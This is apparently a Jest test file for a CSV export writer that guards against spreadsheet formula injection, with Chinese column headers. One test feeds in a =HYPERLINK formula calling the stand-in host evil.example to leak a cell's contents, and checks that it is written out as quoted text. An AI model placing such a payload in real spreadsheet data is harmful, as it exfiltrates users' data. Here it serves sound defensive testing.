import { CsvHeaders, writeCsv } from './safe-csv';
import { neutralise, unneutralise } from './formula-guard';

interface Row {
  name: string;
  code: string;
  count: number;
}

const COLUMNS = [
  { key: 'name', zh: '姓名', value: (r: Row) => r.name },
  { key: 'code', zh: '编码', value: (r: Row) => r.code },
  { key: 'count', zh: '人数', value: (r: Row) => r.count },
];

describe('the export CSV writer', () => {
  it('neutralises every formula-leading text cell and leaves other text and numbers alone', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralise(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutralise('张三')).toBe('张三');
    expect(neutralise('a=b')).toBe('a=b');
    expect(neutralise(-5)).toBe(-5);
    expect(neutralise(null)).toBe('');
    expect(unneutralise("'=1+1")).toBe('=1+1');
    expect(unneutralise("'张三")).toBe("'张三");
  });

  it('writes a name =HYPERLINK(...) as text, quoted, after a BOM, with CRLF line ends', () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A2,"点击")';
    const csv = writeCsv(COLUMNS, [
      { name, code: 'W-01', count: 3 },
      { name: '@SUM(1,2)', code: '-1', count: -2 },
    ]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe('name,code,count');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点击"")",W-01,3`);
    expect(lines[2]).toBe(`"'@SUM(1,2)",'-1,-2`);
    expect(lines[3]).toBe('');
    // No text cell begins with a formula character (a negative number stays a number).
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?([=+@]|-\D)/);
  });

  it('writes Chinese column headers when asked', () => {
    const csv = writeCsv(COLUMNS, [{ name: '李四', code: 'W', count: 1 }], CsvHeaders.CHINESE);
    expect(csv.slice(1).split('\r\n').slice(0, 2)).toEqual(['姓名,编码,人数', '李四,W,1']);
  });
});
